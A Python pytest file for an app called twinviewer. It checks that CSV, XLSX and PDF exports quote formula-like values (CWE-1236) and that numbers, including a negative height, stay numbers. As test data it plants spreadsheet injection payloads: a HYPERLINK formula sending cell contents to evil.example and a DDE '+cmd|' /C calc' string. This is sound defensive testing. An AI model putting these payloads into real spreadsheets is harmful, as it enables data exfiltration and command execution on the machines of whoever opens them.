"""Formula injection (CWE-1236) in every export: CSV, XLSX and the report's table.

Values that start like a formula are planted in the demo's residents and
buildings; the exported files are read back with the csv module, openpyxl and
pypdf (never through twinviewer) and must hold them as quoted text, while
numbers (a real negative one included) stay numbers.
"""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from tests.conftest import DEMO_SCENE
from twinviewer.core import privacy
from twinviewer.core.export_safety import FORMULA_STARTS, neutralise_formula, safe_frame
from twinviewer.core.query import footprint, select_within
from twinviewer.core.selection_export import selection_export, write_export
from twinviewer.core.summary import SavedFilter
from twinviewer.io.loader import open_scene

openpyxl = pytest.importorskip("openpyxl")

HELP = SavedFilter("独居高龄老人", "重点人群", "年龄 >= 80 and 独居 = 1")
PLANTED = {
    "地址": ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "@SUM(A1:A9)",
           "\t=1+1", "\r=2+2"],
    "楼栋": ["+cmd|' /C calc'!A0", "-2+3", "=1+1", "@x"],
}
NEGATIVE = -3.5


def plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_not_formula(text: str) -> None:
    assert not (text[:1] in FORMULA_STARTS and not plain_number(text)), repr(text)


@pytest.fixture(scope="module")
def planted():
    """The demo with formula-like values in four special-care residents of one compound
    (their names too: a masked name keeps its first character), and a negative height."""
    scene = open_scene([DEMO_SCENE])
    people = scene.layer("重点人群")
    compounds = scene.layer("小区")
    for row in range(len(compounds)):
        sel = select_within(scene, footprint(compounds, row), visible_only=False)
        if len(sel.get("重点人群", [])) >= 4 and len(sel.get("建筑", [])):
            break
    df = people.table.df
    rows = sel["重点人群"][:4]
    for field, values in PLANTED.items():
        df.loc[rows, field] = values
    df.loc[rows, "年龄"] = 85
    df.loc[rows, "独居"] = 1
    df.loc[rows[0], "姓名"] = "=HYPERLINK(\"http://evil.example\")"
    buildings = scene.layer("建筑").table.df
    buildings.loc[sel["建筑"][0], "高度"] = NEGATIVE
    return scene, sel, people.table.oid[rows].tolist()


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1",
                                   '=HYPERLINK("http://x","y")', "-", "="])
def test_formula_starts_are_quoted(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["一号楼", "-12.5", "+86", "1e-3", "", "a=b", " =1",
                                   -3, -2.5, None, True])
def test_other_values_stay(value):
    assert neutralise_formula(value) is value or neutralise_formula(value) == value


def test_safe_frame_keeps_numbers_and_types():
    df = pd.DataFrame({"名称": ["=1", "楼"], "高度": [-1.5, 2.0], "=列": [-3, 4],
                       "类别": pd.Categorical(["@x", "住宅"]), "混合": [-7, "-7+1"]})
    out = safe_frame(df)
    assert list(out.columns) == ["名称", "高度", "'=列", "类别", "混合"]
    assert out["名称"].tolist() == ["'=1", "楼"] and out["类别"].tolist() == ["'@x", "住宅"]
    assert out["高度"].dtype == np.float64 and out["'=列"].tolist() == [-3, 4]
    assert out["混合"].tolist() == [-7, "'-7+1"]
    assert df["名称"].tolist() == ["=1", "楼"]  # the table itself is left alone


def test_csv_holds_formulas_as_quoted_text(planted, tmp_path):
    scene, sel, _ = planted
    export = selection_export(scene, sel, HELP, privacy=privacy.PrivacyState())
    write_export(tmp_path / "s.csv", export)
    with open(tmp_path / "s.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    cells = [c for r in rows for c in r]
    for c in cells:
        assert_not_formula(c)
    for field, values in PLANTED.items():
        column = [r[header.index(field)] for r in body]
        for v in values:
            assert "'" + v in column, (field, v)
    names = [r[header.index("姓名")] for r in body]
    assert "'=" + "*" * (len('=HYPERLINK("http://evil.example")') - 1) in names  # masked
    assert not any("evil" in n for n in names)
    heights = [r[header.index("高度")] for r in body if r[0] == "建筑"]
    assert str(NEGATIVE) in heights  # a number, not quoted


def test_xlsx_has_no_formula_cell(planted, tmp_path):
    scene, sel, oids = planted
    export = selection_export(scene, sel, HELP, privacy=privacy.PrivacyState())
    write_export(tmp_path / "s.xlsx", export)
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    assert book.sheetnames == ["汇总", "对象", HELP.name]
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert_not_formula(cell.value)
                    texts.append(cell.value)
    for values in PLANTED.values():
        for v in values:
            # in 对象 and in the special-care list; XML reads a CR back as LF
            assert texts.count("'" + v.replace("\r", "\n")) >= 2, v
    objects = book["对象"]
    header = [c.value for c in objects[1]]
    heights = [r[header.index("高度")] for r in objects.iter_rows(min_row=2, values_only=True)
               if r[0] == "建筑"]
    assert NEGATIVE in heights and all(isinstance(h, (int, float)) for h in heights)
    care = book[HELP.name]
    care_header = [c.value for c in care[1]]
    care_oids = [r[care_header.index("oid")] for r in care.iter_rows(min_row=2,
                                                                      values_only=True)]
    assert set(oids) <= set(care_oids) and all(isinstance(o, int) for o in care_oids)


def test_report_table_shows_quoted_text(planted, tmp_path):
    pypdf = pytest.importorskip("pypdf")
    scene, sel, _ = planted
    export = selection_export(scene, sel, HELP, privacy=privacy.PrivacyState())
    assert len(export.care_list) >= 4
    write_export(tmp_path / "r.pdf", export)
    text = "".join(p.extract_text() for p in pypdf.PdfReader(tmp_path / "r.pdf").pages)
    flat = "".join(text.split())
    # the report shows the first 8 columns: the planted, masked name is among them
    assert "'=" + "*" * (len('=HYPERLINK("http://evil.example")') - 1) in flat
    assert "evil" not in flat


def test_report_table_cells_are_neutral():
    from twinviewer.core.summary import Summary, report_figure

    table = pd.DataFrame({"地址": PLANTED["地址"], "楼栋": PLANTED["楼栋"],
                          "高度": [NEGATIVE, 1.0, 2.0, 3.0]})
    fig = report_figure(Summary(objects=4), None, table, "报告")
    (tab,) = [t for ax in fig.axes for t in ax.tables]
    cells = {k: c.get_text().get_text() for k, c in tab.get_celld().items()}
    body = [cells[(r, c)] for r in range(1, 5) for c in range(3)]
    for v in PLANTED["地址"] + PLANTED["楼栋"]:
        assert "'" + v in body
    assert str(NEGATIVE) in body
    for text in body:
        assert_not_formula(text)
